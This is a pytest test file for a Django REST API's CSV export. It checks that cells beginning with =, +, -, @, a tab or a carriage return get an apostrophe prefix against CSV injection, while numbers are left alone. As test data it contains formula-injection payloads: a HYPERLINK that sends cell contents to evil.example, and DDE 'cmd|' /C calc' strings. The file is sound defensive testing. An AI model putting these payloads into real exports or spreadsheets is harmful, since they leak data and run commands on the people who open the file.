"""CSV exports (`?format=csv`) cannot smuggle a formula into a spreadsheet: a text cell that
starts with =, +, -, @, a tab or a carriage return is written with a leading apostrophe
(OWASP, "CSV Injection"); numbers, negative ones included, stay numbers."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from core.api.renderers import ListCSVRenderer, neutralise_formula
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_a_variant_named_like_a_formula_is_exported_as_text():
    factories.VariantFactory(
        name=FORMULA,
        description="+1+cmd|' /C calc'!A0",
        description_zh="@SUM(1+1)*cmd|' /C calc'!A0",
        version__license=factories.LicenseFactory(name="-2+3+cmd|' /C calc'!A0"),
    )
    [row] = _rows(APIClient().get("/api/v1/variants/", {"format": "csv"}))
    assert row["name"] == "'" + FORMULA
    assert row["description"] == "'+1+cmd|' /C calc'!A0"
    assert row["description_zh"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["effective_license.name"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["num_layers"] == "32"  # numbers untouched


@pytest.mark.django_db
def test_a_licence_named_like_a_formula_is_exported_as_text():
    factories.LicenseFactory(name="=1+1")
    [row] = _rows(APIClient().get("/api/v1/licenses/", {"format": "csv"}))
    assert row["name"] == "'=1+1"


@pytest.mark.django_db
def test_the_json_keeps_the_name_as_it_is():
    factories.VariantFactory(name=FORMULA)
    assert APIClient().get("/api/v1/variants/").json()["results"][0]["name"] == FORMULA


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
        # Numbers: as numbers and as the strings DRF writes decimals as.
        (-3, -3),
        (-2.5, -2.5),
        ("-2.5", "-2.5"),
        ("+4", "+4"),
        ("-1e-3", "-1e-3"),
        (None, None),
        (True, True),
    ],
)
def test_only_text_cells_that_a_spreadsheet_would_evaluate_are_neutralised(value, written):
    assert neutralise_formula(value) == written


def test_the_renderer_neutralises_flattened_nested_cells():
    rendered = ListCSVRenderer().render(
        {"results": [{"name": "=1+1", "delta": -3, "license": {"name": "@x"}}]}
    )
    assert rendered.decode().splitlines() == ["delta,license.name,name", "-3,'@x,'=1+1"]
